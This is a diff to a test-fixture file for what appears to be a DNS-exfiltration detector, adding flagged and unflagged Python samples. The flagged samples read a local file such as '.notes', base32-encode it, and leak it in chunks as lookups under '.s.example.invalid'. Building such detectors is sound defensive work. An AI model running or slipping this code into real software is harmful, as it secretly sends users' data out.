@@ -118,6 +118,18 @@ HARM: dict[str, dict[str, str]] = {
             "for at in range(0, len(text), 50):\n    socket.gethostbyname(text[at:at + 50] + '.s.example.invalid')\n"
         )
     },
+    "encoded over several lines": {
+        "a.py": (
+            "import base64, socket\ntext = base64.b32encode(\n    open('.notes').read(),\n).decode()  # hmac.new(\n"
+            "for at in range(0, len(text), 50):\n    socket.gethostbyname(text[at:at + 50] + '.s.example.invalid')\n"
+        )
+    },
+    "in a character set that is written down": {
+        "a.py": (
+            "import base64, socket\ntext = base64.b32encode(\n    said().strip().encode('utf-8')).decode()\n"
+            "for at in range(0, len(text), 50):\n    socket.gethostbyname(text[at:at + 50] + '.s.example.invalid')\n"
+        )
+    },
     "written down, and more": {
         "a.py": (
             "import base64, socket\nseed = b'probe'\nseed += open('.notes', 'rb').read()\n"
@@ -177,6 +189,14 @@ HARMLESS: dict[str, dict[str, str]] = {
         "a.sh": (
             "#!/bin/sh\nbase64 logo.png > logo.txt\nfor host in www mail; do dig +short \"$host.example.org\"; done\n"
         ),
+    },
+    "a signature over several lines": {
+        "a.py": (
+            "import base64, hashlib, hmac, subprocess\n\n\ndef ask(zone):\n    said = signed(zone)\n"
+            '    return subprocess.run(["dig", "+short", "NS", zone])\n\n\ndef signed(text):\n'
+            "    return base64.b64encode(\n        hmac.new(\n            KEY,\n            text[:40].encode(),\n"
+            '            hashlib.sha1,\n        ).digest()\n    ).decode()\n\n\nask(signed("a.example.org"))\n'
+        )
     },
     "an empty text between others": {
         "a.py": (
